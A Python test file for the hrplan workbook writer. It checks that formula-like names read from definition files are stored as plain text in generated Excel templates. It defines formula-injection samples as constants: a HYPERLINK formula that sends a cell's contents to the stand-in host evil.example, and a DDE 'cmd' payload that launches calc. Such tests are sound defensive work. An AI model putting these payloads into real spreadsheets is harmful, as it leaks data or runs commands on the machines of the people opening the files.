"""The one workbook writer: names and text from definitions or files never become formulas in what hrplan writes.

Real workbooks: a template written from definitions holding formula-like names, read back
with openpyxl (cell types) and unzipped (no <f> element other than hrplan's own ratio column).
"""
from __future__ import annotations

import re
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from hrplan.reports import new_workbook, put, put_formula, save_workbook
from hrplan.reports.submission_template import HEADER_ROW, MAIN_SHEET

HOSTILE_UNIT = '=HYPERLINK("http://evil.example/?q="&A1,"Sở Y tế")'
HOSTILE_INDICATOR = "=cmd|' /C calc'!A0"
HOSTILE_SECTION = "+1+1"
HOSTILE_TITLE = "@SUM(1+1)"


def _formulas(path: Path) -> list[str]:
    """Give the text of every <f> (formula) element in the workbook's sheets."""
    with zipfile.ZipFile(path) as z:
        return [f for name in z.namelist() if name.startswith("xl/worksheets/")
                for f in re.findall(r"<f>(.*?)</f>", z.read(name).decode())]


def test_formula_like_names_in_definitions_are_written_as_text_in_templates(sample_ws, run, tmp_path):
    units = sample_ws.units_file.read_text(encoding="utf-8")
    sample_ws.units_file.write_text(units.replace("name: Sở Y tế,", f"name: '{HOSTILE_UNIT.replace(chr(39), chr(39) * 2)}',"),
                                    encoding="utf-8")
    program = sample_ws.programs_dir / "12-CTr-TU.yaml"
    text = program.read_text(encoding="utf-8")
    text = text.replace("name: Cử cán bộ lãnh đạo, quản lý trẻ đi đào tạo thạc sỹ các chuyên ngành",
                        f"name: \"{HOSTILE_INDICATOR}\\x1b[31m\"", 1)
    text = text.replace("section: Đào tạo sau đại học", f"section: '{HOSTILE_SECTION}'", 1)
    text = text.replace("title: Nâng cao", f"title: '{HOSTILE_TITLE} Nâng cao", 1).replace("2016 - 2020\n", "2016 - 2020'\n", 1)
    program.write_text(text, encoding="utf-8")
    out = tmp_path / "SYT.xlsx"
    result = run("template", "-p", "12-CTr/TU", "-u", "SYT", "--period", "2019", "-o", out, workspace=sample_ws)
    assert result.exit_code == 0, result.output

    formulas = _formulas(out)
    assert formulas and all(f.startswith("IF(AND(ISNUMBER(E") for f in formulas)  # only the ratio column
    ws = load_workbook(out)[MAIN_SHEET]
    texts = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert texts[HOSTILE_UNIT.upper()].data_type == "s" and texts[HOSTILE_UNIT.upper()].quotePrefix
    assert texts[HOSTILE_INDICATOR + "[31m"].data_type == "s"  # the ESC is dropped, the text kept
    assert texts[HOSTILE_SECTION].quotePrefix
    assert any(v.startswith(HOSTILE_TITLE) for v in texts)
    ratio = ws.cell(HEADER_ROW + 3, 7)
    assert ratio.data_type == "f"  # hrplan's own formula still computes


def test_a_cell_set_directly_cannot_slip_a_formula_past_save(tmp_path):
    wb = new_workbook()
    ws = wb.active
    ws["A1"] = "=1+1"  # bypassing put()
    put(ws, "A2", "-2+3")
    put(ws, "A3", 42)
    put_formula(ws, "A4", "=A3*2")
    path = save_workbook(wb, tmp_path / "out" / "x.xlsx")
    assert _formulas(path) == ["A3*2"]
    back = load_workbook(path).active
    assert (back["A1"].value, back["A1"].data_type) == ("=1+1", "s")
    assert back["A2"].value == "-2+3" and back["A2"].quotePrefix
    assert back["A3"].value == 42
